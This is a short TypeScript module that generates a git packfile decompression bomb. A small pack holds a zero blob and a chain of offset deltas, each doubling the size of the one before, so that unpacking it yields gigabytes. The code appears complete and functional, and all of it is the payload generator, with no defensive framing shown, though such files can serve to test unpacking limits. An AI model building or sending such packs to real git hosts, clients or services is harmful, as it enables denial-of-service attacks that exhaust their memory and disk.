/** Packs of some kilobytes that unfold into gigabytes (gitformat-pack(5)). */

import { Buffer } from "node:buffer";
import { createHash } from "node:crypto";
import { deflateSync } from "node:zlib";

/** The most that one instruction of a delta copies, and the size of the one whole object: zeroes. */
const BASE = 0xff_ffff;
const BLOB = 3;
const OFFSET_DELTA = 6;
const COPY_ALL = 0xff;

/** A blob, and deltas that each unfold into so many bytes, each on top of the one before. */
export function deltaBomb(sizes: readonly number[]): Uint8Array {
  const base = Buffer.concat([objectHead(BLOB, BASE), deflateSync(Buffer.alloc(BASE))]);
  const objects = [base];
  let last = { distance: base.length, size: BASE };
  for (const size of sizes) {
    const delta = Buffer.concat([sizeBytes(last.size), sizeBytes(size), copies(size)]);
    const object = Buffer.concat([
      objectHead(OFFSET_DELTA, delta.length),
      offsetBytes(last.distance),
      deflateSync(delta),
    ]);
    objects.push(object);
    last = { distance: object.length, size };
  }
  const head = Buffer.from("PACK\0\0\0\x02\0\0\0\0", "latin1");
  head.writeUInt32BE(objects.length, 8);
  const body = Buffer.concat([head, ...objects]);
  return Buffer.concat([body, createHash("sha1").update(body).digest()]);
}

/** Sizes that double so often. */
export function doublings(count: number): readonly number[] {
  return Array.from({ length: count }, (_, at) => BASE * 2 ** (at + 1));
}

function objectHead(type: number, size: number): Uint8Array {
  const more = Math.floor(size / 16);
  const first = (type << 4) | (size % 16);
  return more === 0
    ? Uint8Array.of(first)
    : Buffer.concat([Uint8Array.of(first | 0x80), sizeBytes(more)]);
}

/** Seven bits a byte, the lowest first. */
function sizeBytes(size: number): Uint8Array {
  const bytes: number[] = [];
  let rest = size;
  for (; rest >= 0x80; rest = Math.floor(rest / 0x80)) bytes.push((rest % 0x80) | 0x80);
  return Uint8Array.from([...bytes, rest]);
}

/** Seven bits a byte, the highest first, each but the last one less. */
function offsetBytes(distance: number): Uint8Array {
  const bytes = [distance % 0x80];
  for (let rest = Math.floor(distance / 0x80); rest > 0; rest = Math.floor(rest / 0x80)) {
    rest -= 1;
    bytes.unshift((rest % 0x80) | 0x80);
  }
  return Uint8Array.from(bytes);
}

/** Copies the beginning of what it stands on, as often as it takes. */
function copies(size: number): Uint8Array {
  const parts: Uint8Array[] = [];
  for (let at = 0; at < size; at += BASE) {
    const count = Math.min(BASE, size - at);
    const counted = [0, 8, 16].map((shift) => (count >>> shift) & 0xff);
    parts.push(Uint8Array.of(COPY_ALL, 0, 0, 0, 0, ...counted));
  }
  return Buffer.concat(parts);
}
